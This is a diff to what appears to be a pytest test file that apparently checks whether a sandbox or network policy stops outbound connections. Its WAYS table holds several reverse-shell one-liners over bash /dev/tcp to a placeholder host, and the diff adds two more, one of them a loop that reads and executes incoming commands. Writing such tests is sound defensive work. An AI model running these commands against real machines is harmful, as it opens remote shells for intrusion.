@@ -18,7 +18,8 @@ WAYS = {
     "a shell on a socket": "bash -i >& /dev/tcp/{host}/22 0>&1",
     "a shell on a socket in a shell": "bash -c 'bash -i >& /dev/tcp/{host}/22 0>&1'",
     "a shell on a descriptor": "sh -i 5<> /dev/tcp/{host}/22 0<&5 1>&5 2>&5",
-    "a socket both ways": "exec 5<>/dev/tcp/{host}/22",
+    "a shell on a socket both ways": "exec 5<>/dev/tcp/{host}/22; sh <&5 >&5 2>&5",
+    "a loop on a socket both ways": "exec 5<>/dev/tcp/{host}/22; cat <&5 | while read l; do $l 2>&5 >&5; done",
 }
 
 
@@ -37,6 +38,7 @@ def test_a_way_in_that_nobody_lets_out_is_not_open(at, way):
 @pytest.mark.parametrize(
     "line",
     [
+        "exec 5<>/dev/tcp/job-1/22", "exec 5<>/dev/tcp/job-1/22; echo hi >&5; head -1 <&5",
         "ssh job-1 hostname", "echo hi > /dev/tcp/job-1/22", "echo hi | nc job-1 22", "ssh -o Port=22 job-1 hostname",
         SETTINGS.format(host="job-1") + "ssh job-1 hostname",
         SETTINGS.format(host="job-1") + "echo '#  RemoteForward 1 a:1' > .ssh/config; ssh job-1 hostname",
